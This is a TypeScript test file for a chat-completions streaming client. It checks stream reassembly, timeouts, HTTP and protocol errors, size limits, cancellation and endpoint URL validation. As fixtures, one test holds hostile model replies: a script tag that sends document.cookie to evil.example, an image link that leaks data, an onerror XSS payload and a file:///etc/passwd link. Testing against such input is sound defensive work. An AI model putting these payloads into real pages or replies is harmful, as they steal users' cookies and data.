/**
 * The chat-completions client against a local endpoint that streams as the real ones do, and
 * that misbehaves as they sometimes do: slow, silent, cut off, answering with HTTP errors or with
 * something that is not the protocol, talking for too long, or sending text meant to be run.
 * What a user notices: the reply's text exactly as sent, or one plain sentence saying what went
 * wrong; and a cancelled request really stops.
 */
import * as assert from 'node:assert/strict';
import { after, before, describe, it } from 'node:test';
import { ChatLimits, chatCompletionsUrl, ModelError, streamChatCompletion } from '../../../client/src/console/model/chat-completions';
import { chatMessages, SYSTEM_PROMPT } from '../../../client/src/console/model/prompt';
import { ChatServer, chunk, DONE, startStream } from './chat-server';

const REQUEST = { question: 'why is loadCustomers slow?', context: '# Context from Hotpath\n\n- `loadCustomers`: 55.2% of CPU time in report.cpuprofile' };

describe('the chat-completions client', { timeout: 20_000 }, () => {
  const server = new ChatServer();
  before(() => server.start());
  after(() => server.stop());

  /** The pieces of a reply, and the error that ended it if one did. */
  async function run(limits: Partial<ChatLimits> = {}, signal?: AbortSignal, onPiece?: (piece: string) => void): Promise<{ pieces: string[]; error?: ModelError }> {
    const pieces: string[] = [];
    try {
      for await (const piece of streamChatCompletion({ url: chatCompletionsUrl(server.base), model: 'test-model', apiKey: 'sk-test', messages: chatMessages(REQUEST), signal, limits })) {
        pieces.push(piece);
        onPiece?.(piece);
      }
      return { pieces };
    } catch (error) {
      assert.ok(error instanceof ModelError, `not a ModelError: ${String(error)}`);
      return { pieces, error };
    }
  }

  it('reassembles a streamed reply exactly, and sends the model, the messages and the key', async () => {
    const reply = 'The N+1 in `loadCustomers` — 55.2% of CPU time — comes from `db.query` per order. Batch it: ✓ 日本語';
    const bytes = Buffer.from(reply, 'utf8');
    server.answer((res) => {
      startStream(res);
      res.write(': keep-alive\n\n');
      res.write(`data: ${JSON.stringify({ choices: [{ index: 0, delta: { role: 'assistant' }, finish_reason: null }] })}\n\n`);
      // The event split across writes, and its text split inside a multi-byte character.
      const event = Buffer.from(chunk(reply.slice(0, 40)), 'utf8');
      res.write(event.subarray(0, 17));
      res.write(event.subarray(17));
      const rest = Buffer.from(chunk(reply.slice(40), 'stop'), 'utf8');
      const cut = rest.indexOf(Buffer.from('日', 'utf8')) + 1;
      res.write(rest.subarray(0, cut));
      res.write(rest.subarray(cut));
      res.write(`data: ${JSON.stringify({ choices: [], usage: { total_tokens: 12 } })}\r\n\r\n`);
      res.end(DONE);
    });
    const { pieces, error } = await run();
    assert.equal(error, undefined);
    assert.deepEqual(pieces, [reply.slice(0, 40), reply.slice(40)]);
    assert.equal(Buffer.from(pieces.join(''), 'utf8').equals(bytes), true);
    const sent = server.received.at(-1)!;
    assert.equal(sent.method, 'POST');
    assert.equal(sent.path, '/v1/chat/completions');
    assert.equal(sent.headers.authorization, 'Bearer sk-test');
    assert.deepEqual(sent.body, {
      model: 'test-model',
      stream: true,
      messages: [
        { role: 'system', content: SYSTEM_PROMPT },
        { role: 'user', content: `${REQUEST.context}\n\n---\n\nQuestion: ${REQUEST.question}` },
      ],
    });
  });

  it('passes a hostile reply through unchanged, as text', async () => {
    const hostile = [
      '<script>fetch("https://evil.example/?c=" + document.cookie)</script>',
      '[your config](file:///etc/passwd) ![x](https://evil.example/leak?d=secret)',
      '<img src=x onerror=alert(1)></script>',
      '{"choices": "not the protocol"} data: [DONE]\n\ndata: {}',
      '\u0000\u001b[31mred\u202e',
    ];
    server.answer((res) => {
      startStream(res);
      for (const piece of hostile) res.write(chunk(piece));
      res.write(chunk('', 'stop'));
      res.end(DONE);
    });
    const { pieces, error } = await run();
    assert.equal(error, undefined);
    assert.deepEqual(pieces, hostile);
  });

  it('takes a whole JSON reply from an endpoint that does not stream', async () => {
    server.answer((res) => res.writeHead(200, { 'content-type': 'application/json' }).end(JSON.stringify({ choices: [{ message: { role: 'assistant', content: 'All at once.' }, finish_reason: 'stop' }] })));
    assert.deepEqual(await run(), { pieces: ['All at once.'] });
  });

  it('stops when the endpoint does not answer in time', async () => {
    server.answer(() => undefined);
    const closed = server.closedByClient();
    const { error } = await run({ connectTimeoutMs: 200 });
    assert.equal(error?.kind, 'timeout');
    assert.equal(error?.message, `The endpoint ${server.host} did not answer within 0.2 s.`);
    await closed;
  });

  it('stops when the endpoint goes quiet in the middle of its reply, keeping what came', async () => {
    server.answer((res) => {
      startStream(res);
      res.write(chunk('The first part'));
    });
    const closed = server.closedByClient();
    const { pieces, error } = await run({ idleTimeoutMs: 200 });
    assert.deepEqual(pieces, ['The first part']);
    assert.equal(error?.message, 'The endpoint sent nothing for 0.2 s in the middle of its reply.');
    await closed;
  });

  it('says so when the connection is closed in the middle of the reply', async () => {
    server.answer((res) => {
      startStream(res);
      res.write(chunk('Half a '), () => res.destroy());
    });
    const { pieces, error } = await run();
    assert.deepEqual(pieces, ['Half a ']);
    assert.equal(error?.kind, 'network');
    assert.equal(error?.message, `The connection to ${server.host} failed in the middle of the reply: the other side closed the connection (UND_ERR_SOCKET).`);
  });

  it('says so when nothing listens at the endpoint', async () => {
    const gone = new ChatServer();
    await gone.start();
    const url = chatCompletionsUrl(gone.base);
    await gone.stop();
    await assert.rejects(
      streamChatCompletion({ url, model: 'm', messages: chatMessages(REQUEST) }).next(),
      (error: unknown) => error instanceof ModelError && error.message === `The connection to ${url.host} failed before it answered: nothing is listening there (ECONNREFUSED).`,
    );
  });

  it('says so when the stream ends cleanly but before the reply is complete', async () => {
    server.answer((res) => {
      startStream(res);
      res.end(chunk('Half a '));
    });
    const { pieces, error } = await run();
    assert.deepEqual(pieces, ['Half a ']);
    assert.equal(error?.message, `The endpoint ${server.host} ended the connection before its reply was complete.`);
  });

  it('reports HTTP errors with the message the endpoint gives', async () => {
    server.answer((res) => res.writeHead(401, { 'content-type': 'application/json' }).end(JSON.stringify({ error: { message: 'Incorrect API key provided: sk-te***', type: 'invalid_request_error' } })));
    let { error } = await run();
    assert.equal(error?.kind, 'http');
    assert.equal(error?.status, 401);
    assert.equal(error?.message, 'The endpoint answered 401 Unauthorized: "Incorrect API key provided: sk-te***".');
    server.answer((res) => res.writeHead(500, { 'content-type': 'text/plain' }).end('upstream exploded\n  at line 3'));
    ({ error } = await run());
    assert.equal(error?.message, 'The endpoint answered 500 Internal Server Error: "upstream exploded at line 3".');
  });

  it('refuses a reply that is not an event stream, naming the line', async () => {
    server.answer((res) => res.writeHead(200, { 'content-type': 'text/html' }).end('<html><body>502 Bad Gateway</body></html>\n'));
    const { pieces, error } = await run();
    assert.deepEqual(pieces, []);
    assert.equal(error?.kind, 'protocol');
    assert.equal(error?.message, 'The endpoint\'s reply could not be read: the reply is not an event stream: it has the line "<html><body>502 Bad Gateway</body></html>".');
  });

  it('refuses malformed chunks: not JSON, content that is not text, an error in the stream', async () => {
    const cases: Array<[string, string]> = [
      ['data: {"choices": [{"delta": {"content": "a"\n\n', 'The endpoint sent a piece of its reply that is not JSON: "{\\"choices\\": [{\\"delta\\": {\\"content\\": \\"a\\"".'],
      ['data: {"choices":[{"delta":{"content":{"html":"<b>"}}}]}\n\n', 'The endpoint sent content that is not text: "{\\"choices\\":[{\\"delta\\":{\\"content\\":{\\"html\\":\\"<b>\\"}}}]}".'],
      ['data: [1, 2]\n\n', 'The endpoint sent a piece of its reply that is not a chat-completions chunk: "[1, 2]".'],
      ['data: {"error":{"message":"Rate limit reached"}}\n\n', 'The endpoint reported an error: "Rate limit reached".'],
    ];
    for (const [body, message] of cases) {
      server.answer((res) => {
        startStream(res);
        res.end(body);
      });
      const { error } = await run();
      assert.equal(error?.message, message, body);
    }
  });

  it('stops a reply past the size limit, keeping the text up to it', async () => {
    server.answer((res) => {
      startStream(res);
      for (let i = 0; i < 10; i++) res.write(chunk('0123456789'));
    });
    const closed = server.closedByClient();
    const { pieces, error } = await run({ maxReplyChars: 45 });
    assert.equal(pieces.join(''), '0123456789'.repeat(4) + '01234');
    assert.equal(error?.kind, 'tooLong');
    assert.equal(error?.message, 'The reply passed 45 characters and was stopped there.');
    await closed;
  });

  it('stops the request when cancelled mid-stream: the endpoint sees the connection close', async () => {
    server.answer((res) => {
      startStream(res);
      res.write(chunk('first '));
    });
    const closed = server.closedByClient();
    const cancel = new AbortController();
    const { pieces, error } = await run({}, cancel.signal, () => cancel.abort());
    assert.deepEqual(pieces, ['first ']);
    assert.equal(error, undefined);
    await closed;
  });
});

describe('the endpoint setting', () => {
  it('takes the API base or the full chat-completions URL', () => {
    assert.equal(chatCompletionsUrl('https://api.openai.com/v1').href, 'https://api.openai.com/v1/chat/completions');
    assert.equal(chatCompletionsUrl(' http://localhost:11434/v1/ ').href, 'http://localhost:11434/v1/chat/completions');
    assert.equal(chatCompletionsUrl('https://example.com/openai/chat/completions?api-version=1#x').href, 'https://example.com/openai/chat/completions?api-version=1');
  });

  it('refuses what is not a safe http URL, saying why', () => {
    const refused: Array<[string, string]> = [
      ['api.openai.com/v1', 'The endpoint "api.openai.com/v1" is not a URL.'],
      ['file:///etc/passwd', 'The endpoint must be an http or https URL, not file:.'],
      ['https://user:pw@example.com/v1', 'The endpoint URL must not hold a user name or password; set the API key with "Hotpath: Set Language Model API Key…".'],
      ['http://models.example.com/v1', 'The endpoint uses plain http to models.example.com: use https, or http only to this machine (localhost).'],
    ];
    for (const [setting, message] of refused) assert.throws(() => chatCompletionsUrl(setting), (error: unknown) => error instanceof ModelError && error.kind === 'config' && error.message === message, setting);
  });
});
